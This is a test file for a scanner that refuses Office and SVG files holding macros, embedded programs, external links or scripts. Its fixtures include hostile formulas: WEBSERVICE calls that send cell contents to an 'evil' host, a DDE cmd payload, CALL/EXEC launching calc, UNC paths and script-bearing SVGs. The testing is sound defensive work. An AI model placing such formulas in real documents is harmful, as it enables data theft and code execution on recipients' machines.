// Workbooks and presentations: ordinary ones are accepted, and what runs or leads to other files is refused.
import { expect, it } from 'vitest'
import { docxType, pptxType, pptxWith, xlsxType } from '../file-text/testing/files.ts'
import { writeXlsx } from '../spreadsheet/spreadsheet.ts'
import { archiveOf } from '../upload/testing/workbook.ts'
import { harmOf } from './harmless.ts'
import { external, relation, relationsOf, word } from './testing/files.ts'

const kinds = (more = '') =>
  `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/>${more}</Types>`
const workbook = (parts: { readonly [path: string]: string | Buffer } = {}): Buffer =>
  archiveOf({ '[Content_Types].xml': kinds(), 'xl/workbook.xml': '<workbook/>', ...parts })
const rels = 'xl/worksheets/_rels/sheet1.xml.rels'

const drawing = (inner: string) =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">${inner}</svg>`
const sheet = (formula: string) =>
  workbook({
    'xl/worksheets/sheet1.xml': `<worksheet><sheetData><row><c><f>${formula}</f></c></row></sheetData></worksheet>`,
  })

const refused: { readonly [what: string]: Buffer } = {
  macros: workbook({ 'xl/vbaProject.bin': 'x' }),
  'macros by their kind': workbook({
    '[Content_Types].xml': kinds(
      '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.m&#97;croEnabled.main+xml"/>',
    ),
  }),
  'macros under another name': workbook({
    'xl/_rels/workbook.xml.rels': relationsOf(
      relation('http://schemas.microsoft.com/office/2006/relationships/vbaProject', 'x.bin'),
    ),
  }),
  'a program inside': workbook({ 'xl/embeddings/oleObject1.bin': 'x' }),
  'values of another file': workbook({ 'xl/externalLinks/externalLink1.xml': '<x/>' }),
  'a connection to a database': workbook({ 'xl/connections.xml': '<x/>' }),
  'a picture of another computer': workbook({ [rels]: relationsOf(relation('image', 'http://evil/p.png', external)) }),
  'a link to another computer': workbook({ [rels]: relationsOf(relation('hyperlink', 'file://evil/x', external)) }),
  'a part whose target is another computer': workbook({ [rels]: relationsOf(relation('image', '\\\\evil\\p.png')) }),
  'a drawing with a script': workbook({ 'xl/media/i.svg': drawing('<script>alert(1)</script>') }),
  'a query that is run on opening': workbook({ 'customXml/item1.xml': '<DataMashup xmlns="x">AAAA</DataMashup>' }),
  'a query in another encoding': workbook({ 'customXml/item1.xml': Buffer.from('<DataMashup/>', 'utf16le') }),
  'a name that calls a program': workbook({
    'xl/workbook.xml':
      '<workbook><definedNames><definedName name="x">EXEC("calc")</definedName></definedNames></workbook>',
  }),
  'a rule that fetches': workbook({
    'xl/worksheets/sheet1.xml': '<worksheet><formula>WEB&#83;ERVICE("http://evil/"&amp;A2)</formula></worksheet>',
  }),
  'relations in another encoding': workbook({ [rels]: Buffer.from('\ufeff<x/>', 'utf16le') }),
}
it.each(Object.keys(refused))('a workbook is refused with %s', async (what) => {
  expect(await harmOf(refused[what] as Buffer, xlsxType)).toMatch(/holds macros.*save it again|is damaged/)
})

it.each([
  'WEBSERVICE("http://evil/"&amp;A2)',
  '_xlfn.WEBSERVICE (A1)',
  '_xlfn.IMAGE("http://evil/p.png")',
  'RTD("x",,"y")',
  "cmd|'/c calc'!A0",
  "'\\\\evil\\share\\[b.xlsx]S'!A1",
  "SUM('C:\\[b.xlsx]S'!A1,1)",
  'CALL("kernel32","WinExec","JCJ","calc",0)',
])('a workbook is refused with the formula %s', async (formula) => {
  expect(await harmOf(sheet(formula), xlsxType)).toMatch(/holds macros/)
})

it.each([
  'SUM(A1:A9)',
  `'Pay of May'!A1`,
  'IF(A1="a|b","WEBSERVICE(1)",0)',
  'Table1[[#This Row],[Net]]',
  'SUMIMAGE(A1)',
])('a workbook is accepted with the formula %s', async (formula) => {
  expect(await harmOf(sheet(formula), xlsxType)).toBeNull()
})

it.each([
  '<script>alert(1)</script>',
  '<image xlink:href="http://evil/x.png"/>',
  '<style>@import url(http://evil/x.css)</style>',
  '<rect style="fill:url(http://evil/x)"/>',
  '<rect onload="x()"/>',
  '<foreignObject/>',
])('a Word file is refused with a drawing that contains %s', async (inner) => {
  expect(await harmOf(word('', { 'word/media/i.svg': drawing(inner) }), docxType)).toMatch(/holds scripts/)
})

it('a Word file is accepted with a drawing of shapes', async () => {
  const shapes = '<defs><linearGradient id="g"/></defs><rect fill="url(#g)" style="stroke:red"/><use xlink:href="#g"/>'
  expect(await harmOf(word('', { 'word/media/i.svg': drawing(shapes) }), docxType)).toBeNull()
})

it('ordinary workbooks and presentations are accepted', async () => {
  const book = await writeXlsx({
    sheets: [
      {
        name: 'Pay',
        rows: [
          ['Name', 'Amount'],
          ['Sri', 1_000_000],
        ],
      },
    ],
  })
  expect(await harmOf(Buffer.from(book), xlsxType)).toBeNull()
  expect(await harmOf(workbook({ [rels]: relationsOf(relation('hyperlink', '#Pay!A1')) }), xlsxType)).toBeNull()
  expect(await harmOf(pptxWith('Rencana'), pptxType)).toBeNull()
})
